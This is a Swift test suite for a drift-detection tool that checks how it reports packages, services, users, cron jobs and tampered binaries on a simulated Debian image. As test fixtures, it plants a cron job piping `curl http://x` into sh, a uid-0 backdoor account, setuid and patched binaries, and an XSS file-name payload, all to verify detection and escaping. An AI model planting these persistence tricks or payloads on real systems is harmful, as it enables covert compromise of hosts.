import Foundation
import Testing

@testable import DriftCheck

/// A small Debian-like image drifted by the real tools operators use (dpkg, systemctl, useradd, an editor), and the
/// report that must say exactly what happened, in the operator's words.
@Suite("End to end with real tools")
struct EndToEndDriftTests {
    /// Builds the image tree: a dpkg database with coreutils (from this machine's real status file), systemd units,
    /// accounts, and the binary coreutils owns.
    private func makeImage(_ fixture: Fixture) throws {
        let image = fixture.root
        let status = String(decoding: try FixtureFiles.bytes("dpkg/status"), as: UTF8.self)
        let coreutils = try #require(
            status.components(separatedBy: "\n\n").first { $0.hasPrefix("Package: coreutils\n") })
        let setup = """
            set -e
            cd '\(image)'
            mkdir -p var/lib/dpkg/info var/lib/dpkg/updates var/lib/dpkg/triggers usr/bin usr/lib/systemd/system \
                etc/systemd/system/multi-user.target.wants etc/default home var/log etc/ssh root var/lib/systemd \
                var/lib/apt/lists var/cache/apt tmp
            printf '%s\\n\\n' "$COREUTILS" > var/lib/dpkg/status
            : > var/lib/dpkg/available
            echo /usr/bin/ls > var/lib/dpkg/info/coreutils.list
            cp /usr/bin/ls usr/bin/ls
            md5sum usr/bin/ls > var/lib/dpkg/info/coreutils.md5sums
            grep -E '^(root|daemon|bin|sys|nobody):' /etc/passwd > etc/passwd
            grep -E '^(root|daemon|bin|sys|nobody):' /etc/shadow > etc/shadow
            grep -E '^(root|daemon|bin|sys|nogroup|users):' /etc/group > etc/group
            grep -E '^(root|daemon|bin|sys|nogroup|users):' /etc/gshadow > etc/gshadow
            chmod 640 etc/shadow etc/gshadow
            cp /etc/login.defs etc/
            for unit in web cache audit; do
                printf '[Unit]\\nDescription=%s\\n[Service]\\nExecStart=/usr/bin/%s\\n\
            [Install]\\nWantedBy=multi-user.target\\n' \
                    $unit $unit > usr/lib/systemd/system/$unit.service
            done
            ln -s /usr/lib/systemd/system/audit.service etc/systemd/system/multi-user.target.wants/audit.service
            """
        let result = try CommandLineTool.run(
            "/bin/sh", ["-c", setup], environment: ["COREUTILS": coreutils, "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"])
        #expect(result.status == 0, "\(result.stderr)")
    }

    /// The image made and baselined (as deb-2026.11), and a copy of it drifted by ``drift(_:fixture:)``.
    private func baselineAndDriftedHost(_ fixture: Fixture) throws -> (baseline: String, host: String) {
        try makeImage(fixture)
        let baseline = fixture.directory.url("baseline.jsonl")
        let made = try CommandLineTool.driftcheck(
            "baseline", "--root", fixture.root, "--image", "deb-2026.11", "--key", fixture.key, "--out", baseline)
        #expect(made.status == 0, "\(made.stderr)")
        let host = fixture.directory.url("host")
        #expect(try CommandLineTool.shell("cp -a '\(fixture.root)' '\(host)'").status == 0)
        try drift(host, fixture: fixture)
        return (baseline, host)
    }

    /// Drifts the host copy with real tools.
    private func drift(_ host: String, fixture: Fixture) throws {
        let package = fixture.directory.url("pkg")
        let script = """
            set -e
            mkdir -p '\(package)/DEBIAN' '\(package)/usr/bin' '\(package)/usr/share/doc/hello-drift'
            printf '#!/bin/sh\\necho hello\\n' > '\(package)/usr/bin/hello-drift'
            chmod 755 '\(package)/usr/bin/hello-drift'
            echo copyright > '\(package)/usr/share/doc/hello-drift/copyright'
            printf 'Package: hello-drift\\nVersion: 1.0-1\\nArchitecture: all\\nMaintainer: T <t@example.com>\\n\
            Description: fixture\\n tiny\\n' \
                > '\(package)/DEBIAN/control'
            dpkg-deb --root-owner-group --build '\(package)' '\(package).deb' >/dev/null
            dpkg --root='\(host)' --force-depends --force-script-chrootless -i '\(package).deb'
            systemctl --root='\(host)' enable web.service
            systemctl --root='\(host)' mask cache.service
            mkdir -p '\(host)/etc/systemd/system/audit.service.d'
            printf '[Service]\\nExecStart=\\nExecStart=/usr/bin/audit --quiet\\n' \
                > '\(host)/etc/systemd/system/audit.service.d/override.conf'
            useradd --root '\(host)' -m -s /bin/sh deploy
            printf 'patched' >> '\(host)/usr/bin/ls'
            # Expected churn of a running host, which the default policy must not report:
            mkdir -p '\(host)/var/log/journal' '\(host)/var/lib/apt/lists' '\(host)/var/cache/apt/archives' \
                '\(host)/var/lib/systemd' '\(host)/etc/ssh' '\(host)/root' '\(host)/tmp'
            echo 'Nov 22 sshd[1]: started' >> '\(host)/var/log/syslog'
            echo 'Package: x' \
                > '\(host)/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages'
            head -c 4096 /dev/urandom > '\(host)/var/cache/apt/pkgcache.bin'
            echo 0123456789abcdef0123456789abcdef > '\(host)/etc/machine-id'
            head -c 512 /dev/urandom > '\(host)/var/lib/systemd/random-seed'
            ssh-keygen -q -t ed25519 -N '' -f '\(host)/etc/ssh/ssh_host_ed25519_key' 2>/dev/null || \
                head -c 64 /dev/urandom > '\(host)/etc/ssh/ssh_host_ed25519_key'
            echo 'ls -la' > '\(host)/root/.bash_history'
            echo scratch > '\(host)/tmp/scratch'
            """
        let result = try CommandLineTool.run(
            "/bin/sh", ["-c", script], environment: ["PATH": "/usr/sbin:/usr/bin:/sbin:/bin"])
        #expect(result.status == 0, "\(result.stderr)")
    }

    @Test(
        """
        a package added, a service enabled and one masked, a drop-in, a user added and a tampered binary: \
        exactly those
        """
    )
    func realToolsDrift() throws {
        let fixture = try Fixture()
        let (baseline, host) = try baselineAndDriftedHost(fixture)
        let hostManifest = fixture.directory.url("host.jsonl")
        let scanned = try CommandLineTool.driftcheck(
            "scan", "--root", host, "--key", fixture.key, "--out", hostManifest)
        #expect(scanned.status == 0, "\(scanned.stderr)")

        let (status, report) = try fixture.jsonReport(baseline, hostManifest)
        #expect(status == 1)
        let items = Fixture.items(report)
        let summary = items.map { item in
            "\(item["kind"]?.stringValue ?? "") \(item["name"]?.stringValue ?? "") "
                + "\(item["change"]?.stringValue ?? "") "
                + Fixture.fields(item).joined(separator: ",") + " \(item["severity"]?.stringValue ?? "")"
        }
        #expect(
            summary == [
                "package hello-drift added  high",
                "service audit.service modified dropins high",
                "service cache.service modified masked high",
                "service web.service modified enabled,wanted_by high",
                "user deploy added  high",
                "file /usr/bin/ls modified content,size critical",
            ], "\(summary)")

        func related(_ name: String) -> [String] {
            guard case .array(let list)? = Fixture.item(report, named: name)?["related"] else { return [] }
            return list.compactMap { $0["name"]?.stringValue }
        }
        #expect(related("hello-drift").contains("/usr/bin/hello-drift"))
        #expect(related("hello-drift").contains("/usr/share/doc/hello-drift/copyright"))
        #expect(
            !related("hello-drift").contains("/var/lib/dpkg/status"),
            "dpkg bookkeeping is ignored by the default policy")
        #expect(related("web.service") == ["/etc/systemd/system/multi-user.target.wants/web.service"])
        #expect(related("cache.service") == ["/etc/systemd/system/cache.service"])
        #expect(related("audit.service").contains("/etc/systemd/system/audit.service.d/override.conf"))
        #expect(related("deploy").contains("/etc/passwd"))
        #expect(related("deploy").contains("/etc/shadow"))
        #expect(related("deploy").contains("/home/deploy"))
        #expect(related("deploy").contains("deploy"), "the user's private group is folded under the user")
        let tampered = Fixture.item(report, named: "/usr/bin/ls")
        #expect(tampered?["note"]?.stringValue == "changed outside the package manager (owned by package coreutils)")
        #expect(report["recommendation"]?["action"]?.stringValue == "investigate", "a tampered package binary")
        guard case .array(let reasons)? = report["recommendation"]?["reasons"] else {
            Issue.record("no reasons"); return
        }
        #expect(reasons.count == 1)
        #expect(reasons.first?.stringValue?.contains("/usr/bin/ls") == true)

        let text = try fixture.compare(baseline, hostManifest)
        #expect(text.stdout.contains("PACKAGES (1 added)"))
        #expect(text.stdout.contains("SERVICES (3 modified)"))
        #expect(text.stdout.contains("USERS (1 added)"))
        #expect(text.stdout.contains("FILES (1 modified)"))
    }

    @Test(
        """
        compare --format html is one self-contained page: recommendation, counts, every item, what is grouped, \
        names escaped; headless Chromium renders it
        """
    )
    func htmlReport() throws {
        let fixture = try Fixture()
        let (baseline, host) = try baselineAndDriftedHost(fixture)
        let hostile = "\(host)/etc/<img src=x onerror=alert(1)>\u{1B}[31m"
        #expect(FileManager.default.createFile(atPath: hostile, contents: Data("x".utf8)))
        let manifest = fixture.directory.url("host.jsonl")
        let scanned = try CommandLineTool.driftcheck("scan", "--root", host, "--key", fixture.key, "--out", manifest)
        #expect(scanned.status == 0, "\(scanned.stderr)")
        let page = fixture.directory.url("report.html")
        let rendered = try fixture.compare(baseline, manifest, ["--format", "html", "--out", page])
        #expect(rendered.status == 1, "\(rendered.stderr)")
        let html = try String(contentsOfFile: page, encoding: .utf8)
        #expect(html.hasPrefix("<!DOCTYPE html>"))
        #expect(html.contains("INVESTIGATE"))
        #expect(html.contains("changed outside the package manager (owned by package coreutils)"))
        #expect(html.contains("<code>/usr/bin/hello-drift</code>"), "a package's files are listed under it")
        #expect(html.contains("&lt;img src=x onerror=alert(1)&gt;\\x1B[31m"), "names escaped for a page")
        #expect(!html.contains("<img") && !html.contains("<script"), "no script, and no name becomes markup")
        #expect(!html.contains("\u{1B}"), "no control character reaches the page")
        #expect(!html.contains("src=\"http") && !html.contains("href=\"http"), "no external assets")
        #expect(html.range(of: "PACKAGES")!.lowerBound < html.range(of: "FILES")!.lowerBound)
        let shot = try Screenshot.take(page, into: fixture.directory.url("report.png"))
        #expect(shot.colours > 20, "the screenshot shows a rendered page, not a blank one")
    }

    @Test(
        """
        --verify-packages finds a package-owned file that fails its dpkg md5sum even without a baseline, \
        as debsums does
        """
    )
    func verifyPackagesWithoutBaseline() throws {
        let fixture = try Fixture()
        try makeImage(fixture)
        let clean = try CommandLineTool.driftcheck(
            "scan", "--root", fixture.root, "--verify-packages", "--key", fixture.key, "--out",
            fixture.directory.url("clean.jsonl"))
        #expect(clean.status == 0, "\(clean.stderr)")
        #expect(clean.stderr.contains("0 package checksum mismatches"))
        #expect(try CommandLineTool.shell("printf x >> '\(fixture.root)/usr/bin/ls'").status == 0)
        let out = fixture.directory.url("tampered.jsonl")
        let tampered = try CommandLineTool.driftcheck(
            "scan", "--root", fixture.root, "--verify-packages", "--key", fixture.key, "--out", out)
        #expect(tampered.status == 1)
        #expect(
            tampered.stderr.contains("/usr/bin/ls: content does not match the checksum recorded by package coreutils"))
        #expect(FileManager.default.fileExists(atPath: out), "the manifest is still written")
        let entry = try fixture.entries(out).first { $0.path == Array("/usr/bin/ls".utf8) }
        #expect(entry?.packageCheck == .mismatch)
        #expect(entry?.package == "coreutils")
        let (_, report) = try fixture.jsonReport(fixture.directory.url("clean.jsonl"), out)
        let item = Fixture.item(report, named: "/usr/bin/ls")
        #expect(Fixture.fields(item) == ["content", "size", "package_checksum"])
        #expect(item?["severity"]?.stringValue == "critical")
        unlink(fixture.root + "/usr/bin/ls")
        let missing = try CommandLineTool.driftcheck(
            "scan", "--root", fixture.root, "--verify-packages", "--key", fixture.key, "--out", out)
        #expect(missing.status == 1)
        #expect(missing.stderr.contains("/usr/bin/ls: missing package coreutils"))
    }

    @Test("a package upgraded and one downgraded by dpkg are reported as such, with their files grouped")
    func upgradeAndDowngrade() throws {
        let fixture = try Fixture()
        let image = fixture.root
        let script = """
            set -e
            cd '\(image)'
            mkdir -p var/lib/dpkg/info var/lib/dpkg/updates var/lib/dpkg/triggers
            printf 'Package: tool-a\\nStatus: install ok installed\\nArchitecture: all\\nVersion: 1.0-1\\n\\n\
            Package: tool-b\\nStatus: install ok installed\\nArchitecture: all\\nVersion: 1:2.0~rc1-1\\n\\n' \
                > var/lib/dpkg/status
            """
        #expect(try CommandLineTool.shell(script).status == 0)
        let baseline = try fixture.scan("baseline.jsonl")
        let host = fixture.directory.url("host")
        #expect(
            try CommandLineTool.shell(
                "cp -a '\(image)' '\(host)'"
                    + " && sed -i 's/1.0-1/1.0-1+deb12u1/; s/1:2.0~rc1-1/1:1.9-1/' '\(host)/var/lib/dpkg/status'"
            ).status == 0)
        let (_, report) = try fixture.jsonReport(baseline, try fixture.scan("host.jsonl", root: host))
        #expect(Fixture.item(report, named: "tool-a")?["change"]?.stringValue == "upgraded")
        #expect(Fixture.item(report, named: "tool-a")?["severity"]?.stringValue == "medium")
        #expect(Fixture.item(report, named: "tool-b")?["change"]?.stringValue == "downgraded")
        #expect(Fixture.item(report, named: "tool-b")?["severity"]?.stringValue == "high")
        #expect(Fixture.items(report).count == 2, "the status file itself is grouped under the packages")
    }

    @Test("a new cron job shows up as a cron item, with its crontab file grouped under it")
    func newCronJob() throws {
        let fixture = try Fixture()
        try fixture.directory.write("image/etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
        try fixture.directory.makeDirectory("image/etc/cron.d")
        let baseline = try fixture.scan("baseline.jsonl")
        let host = fixture.directory.url("host")
        #expect(
            try CommandLineTool.shell(
                "cp -a '\(fixture.root)' '\(host)'"
                    + " && echo '* * * * * root curl -s http://x | sh' > '\(host)/etc/cron.d/update'"
            ).status == 0)
        let (_, report) = try fixture.jsonReport(baseline, try fixture.scan("host.jsonl", root: host))
        #expect(Fixture.items(report).count == 1)
        let item = Fixture.item(report, named: "/etc/cron.d/update")
        #expect(item?["kind"]?.stringValue == "cron")
        #expect(item?["change"]?.stringValue == "added")
        #expect(item?["severity"]?.stringValue == "high")
        #expect(item?["host"]?["jobs"] == .integer(1))
        guard case .array(let related)? = item?["related"] else { Issue.record("no related files"); return }
        #expect(related.first?["name"]?.stringValue == "/etc/cron.d/update")
    }

    @Test("a new uid-0 account is critical")
    func newRootAccountIsCritical() throws {
        let fixture = try Fixture()
        try fixture.directory.write("image/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        let baseline = try fixture.scan("baseline.jsonl")
        let host = fixture.directory.url("host")
        #expect(
            try CommandLineTool.shell(
                "cp -a '\(fixture.root)' '\(host)' && echo 'toor:x:0:0::/root:/bin/sh' >> '\(host)/etc/passwd'"
            ).status == 0)
        let (_, report) = try fixture.jsonReport(baseline, try fixture.scan("host.jsonl", root: host))
        let item = Fixture.item(report, named: "toor")
        #expect(item?["kind"]?.stringValue == "user")
        #expect(item?["severity"]?.stringValue == "critical")
        #expect(Fixture.items(report).count == 1)
    }

    @Test(
        """
        a real dpkg upgrade is explained by dpkg.log's window; a binary patched, or made setuid, seconds after it \
        is tampering under the upgrade
        """
    )
    func upgradeThenTamper() throws {
        let fixture = try Fixture()
        let image = fixture.root
        let debs = fixture.directory.url("debs")
        // dpkg writes the root's dpkg.log (--log) in the local time of its process; the root says its zone is UTC,
        // so dpkg runs in UTC.
        let build = """
            set -e
            export TZ=UTC
            mkdir -p '\(image)/var/lib/dpkg/info' '\(image)/var/lib/dpkg/updates' '\(image)/var/lib/dpkg/triggers' \
                '\(image)/var/log' '\(image)/etc' '\(debs)'
            : > '\(image)/var/lib/dpkg/status'
            : > '\(image)/var/lib/dpkg/available'
            ln -s /usr/share/zoneinfo/Etc/UTC '\(image)/etc/localtime'
            cd '\(debs)'
            for v in 1.0 1.1; do
                d=hello-up-$v
                mkdir -p $d/DEBIAN $d/usr/bin $d/etc
                printf '#!/bin/sh\\necho %s\\n' $v > $d/usr/bin/hello-up
                chmod 755 $d/usr/bin/hello-up
                printf 'greeting = %s\\n' $v > $d/etc/hello-up.conf
                echo /etc/hello-up.conf > $d/DEBIAN/conffiles
                printf 'Package: hello-up\\nVersion: %s-1\\nArchitecture: all\\n' $v > $d/DEBIAN/control
                printf 'Maintainer: T <t@example.com>\\nDescription: fixture\\n tiny\\n' >> $d/DEBIAN/control
                dpkg-deb --root-owner-group --build $d $d.deb >/dev/null
            done
            dpkg --root='\(image)' --log='\(image)/var/log/dpkg.log' --force-script-chrootless -i hello-up-1.0.deb \
                >/dev/null
            """
        let built = try CommandLineTool.shell(build)
        #expect(built.status == 0, "\(built.stderr)")
        let baseline = try fixture.scan("baseline.jsonl")
        func host(_ name: String, then tamper: String) throws -> JSONValue {
            let root = fixture.directory.url(name)
            let upgrade = """
                set -e
                export TZ=UTC
                cp -a '\(image)' '\(root)'
                dpkg --root='\(root)' --log='\(root)/var/log/dpkg.log' --force-script-chrootless \
                    -i '\(debs)/hello-up-1.1.deb' >/dev/null
                \(tamper.isEmpty ? "" : "sleep 3; " + tamper)
                """
            let upgraded = try CommandLineTool.shell(upgrade)
            #expect(upgraded.status == 0, "\(upgraded.stderr)")
            return try fixture.jsonReport(baseline, try fixture.scan("\(name).jsonl", root: root)).report
        }
        let clean = try host("upgraded", then: "")
        let package = Fixture.item(clean, named: "hello-up")
        #expect(package?["change"]?.stringValue == "upgraded")
        #expect(package?["severity"]?.stringValue == "medium", "its binary and its new conffile came with it")
        #expect(package?["tampering"] == nil)
        #expect(Fixture.items(clean).count == 1)
        #expect(clean["recommendation"]?["action"]?.stringValue == "none")

        let patched = try host("patched", then: "printf x >> '\(fixture.directory.url("patched"))/usr/bin/hello-up'")
        #expect(Fixture.item(patched, named: "hello-up")?["severity"]?.stringValue == "critical")
        #expect(Fixture.item(patched, named: "hello-up")?["tampering"] == .bool(true))
        #expect(patched["recommendation"]?["action"]?.stringValue == "investigate")
        guard case .array(let related)? = Fixture.item(patched, named: "hello-up")?["related"] else {
            Issue.record("nothing under the package"); return
        }
        let binary = related.first { $0["name"]?.stringValue == "/usr/bin/hello-up" }
        #expect(binary?["note"]?.stringValue == "changed outside the package manager (owned by package hello-up)")

        let setuid = try host("setuid", then: "chmod u+s '\(fixture.directory.url("setuid"))/usr/bin/hello-up'")
        #expect(setuid["recommendation"]?["action"]?.stringValue == "investigate")
    }
}
